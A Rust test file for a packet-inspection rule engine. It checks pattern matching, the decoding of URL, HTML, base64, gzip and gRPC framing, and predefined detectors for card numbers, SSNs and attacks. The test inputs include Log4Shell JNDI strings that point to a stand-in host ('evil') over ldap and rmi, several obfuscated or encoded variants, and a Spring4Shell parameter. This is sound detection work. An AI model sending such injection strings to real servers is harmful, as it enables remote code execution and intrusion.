//! Which rules hold for which message.

use nv_dpi::content::{Body, BodyKind, Coding, Part};

use super::{body, compile, pattern, sensor, told};
use crate::predefined;
use crate::sensor::Context::{Body as InBody, Header, Packet, Url};

#[test]
fn a_rule_holds_where_all_its_patterns_are_and_none_that_must_not_be() {
    let set = compile(&[sensor(&[
        ("one", &[pattern(InBody, "secret")]),
        ("both", &[pattern(InBody, "secret"), pattern(Header, "(?i)x-api: [0-9]+")]),
        ("without", &[pattern(InBody, "secret"), pattern(InBody, "!example")]),
        ("unsigned", &[pattern(Header, "!(?i)signature:")]),
        ("anywhere", &[pattern(Packet, "needle")]),
        ("asked", &[pattern(Url, "^GET /admin")]),
        ("last", &[pattern(Packet, "over$")]),
    ])]);
    for (parts, want) in [
        (&[body(b"a secret")][..], &["one", "without"][..]),
        (&[body(b"a secret example")], &["one"]),
        (&[Part::Header(b"X-API: 17\r\n"), body(b"secret")], &["both", "one", "unsigned", "without"]),
        (&[Part::Header(b"Signature: x\r\n"), body(b"nothing")], &[]),
        (&[Part::Url(b"GET /needle HTTP/1.1\r\n")], &["anywhere"]),
        (&[Part::Url(b"GET /admin HTTP/1.1\r\n")], &["asked"]),
        (&[Part::Url(b"GET /a?GET /admin HTTP/1.1\r\n")], &[]),
        (&[Part::Packet(b"a needle")], &["anywhere"]),
        (&[Part::Packet(b"a secret")], &[]),
        (&[Part::Packet(b"a needle, ov"), Part::Packet(b"er")], &["anywhere", "last"]),
        (&[Part::Datagram(b"a needle"), Part::Datagram(b"and over")], &["anywhere", "last"]),
        (&[Part::Datagram(b"a nee"), Part::Datagram(b"dle, ov"), Part::Datagram(b"er")], &[]),
        (&[body(b"a sec"), Part::Hole, body(b"ret needle")], &["anywhere"]),
    ] {
        assert_eq!(told(&set, parts, &[]), want, "{parts:?}");
    }
}

#[test]
fn what_is_wrapped_around_a_match_is_undone() {
    let set = compile(&[sensor(&[("rule", &[pattern(Packet, r"\$\{jndi:")])])]);
    let form = Body { coding: None, kind: BodyKind::Form };
    for part in [
        Part::Url(b"GET /?q=%24%7bjndi:ldap HTTP/1.1\r\n"),
        Part::Url(b"GET /?q=%2524%257bjndi:ldap HTTP/1.1\r\n"),
        Part::Url(b"GET /?q=%26%2336;&lcub;jndi:ldap HTTP/1.1\r\n"),
        Part::Header(b"X-Data: %u0024%u007bjndi:x\r\n"),
        Part::Header(b"Authorization: Basic JHtqbmRpOmxkYXA6Ly94L2F9IGlzIGl0\r\n"),
        Part::Body(form, b"a=b&q=%24%7Bjndi:x"),
        Part::Body(form, b"a=b&q=%2524%257Bjndi:x"),
        body(b"<p>&#36;&lbrace;jndi&colon;x"),
        body(b"{\"a\": \"JHtqbmRpOmxkYXA6Ly94L2F9IGlzIGl0\"}"),
    ] {
        for cut in [1, 2, 3, 5, 1000] {
            assert_eq!(told(&set, &[part], &[cut]), ["rule"], "{part:?} {cut}");
        }
    }
    assert!(told(&set, &[Part::Url(b"GET /?q=jndi: HTTP/1.1\r\n")], &[]).is_empty());
}

#[test]
fn a_compressed_body_is_looked_into_and_one_that_is_not_what_it_says_as_well() {
    use std::io::Write as _;
    let set = compile(&[sensor(&[("rule", &[pattern(InBody, "confidential")])])]);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(b"this is confidential, you know").unwrap();
    let zipped = encoder.finish().unwrap();
    let gzip = Body { coding: Some(Coding::Gzip), kind: BodyKind::Text };
    let grpc = Body { coding: Some(Coding::Gzip), kind: BodyKind::Grpc };
    let framed =
        [&[1, 0, 0, 0, u8::try_from(zipped.len()).unwrap()][..], &zipped, &[0, 0, 0, 0, 1, 7]].concat();
    let split = [&[0, 0, 0, 0, 4][..], b"conf", &[0, 0, 0, 0, 8], b"idential"].concat();
    for cut in [1, 3, 1000] {
        assert_eq!(told(&set, &[Part::Body(gzip, &zipped)], &[cut]), ["rule"], "{cut}");
        assert_eq!(told(&set, &[Part::Body(gzip, b"plainly confidential")], &[1000]), ["rule"]);
        assert_eq!(told(&set, &[Part::Body(grpc, &framed)], &[cut]), ["rule"], "{cut}");
        assert_eq!(told(&set, &[Part::Body(grpc, &split)], &[cut]), ["rule"], "{cut}");
    }
}

#[test]
fn predefined_sensors_find_numbers_that_can_be_and_attacks() {
    let set = compile(&predefined::sensors());
    for (text, want) in [
        ("card: 4111-1111-1111-1111, thanks", &["rule.visa"][..]),
        ("4111111111111111", &["rule.visa"]),
        ("{\"card\":4111111111111112}", &[]),
        ("id 94111111111111111", &[]),
        ("x5555555555554444", &[]),
        ("5555 5555 5555 4444", &["rule.master"]),
        ("378282246310005", &["rule.americanexpress"]),
        ("6011000990139424", &["rule.discover"]),
        ("3530111333300000", &["rule.jcb"]),
        ("30569309025904", &["rule.diner1"]),
        ("201400000000009", &["rule.diner2"]),
        ("my ssn is 078-05-1120.", &["rule.ssn"]),
        ("my ssn is 666-05-1120.", &[]),
        ("tel 555-1234 and 2024-01-01 10:10:10", &[]),
        ("X: ${jndi:ldap://evil/a}", &["rule.log4shell"]),
        ("X: ${${lower:j}ndi:ldap://evil/a}", &["rule.log4shell"]),
        ("X: ${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}", &["rule.log4shell"]),
        ("price ${amount}", &[]),
        ("class.module.classLoader.resources=x", &["rule.spring4shell"]),
    ] {
        for cut in [1, 4, 7, 1000] {
            assert_eq!(told(&set, &[body(text.as_bytes())], &[cut]), want, "{text} {cut}");
            assert_eq!(told(&set, &[Part::Packet(text.as_bytes())], &[cut]), want, "{text} {cut}");
        }
    }
    assert_eq!(predefined::sensor("fed.sensor.ssn").unwrap().rules[0].name, "fed.rule.ssn");
    assert!(predefined::sensor("sensor.unknown").is_none());
}
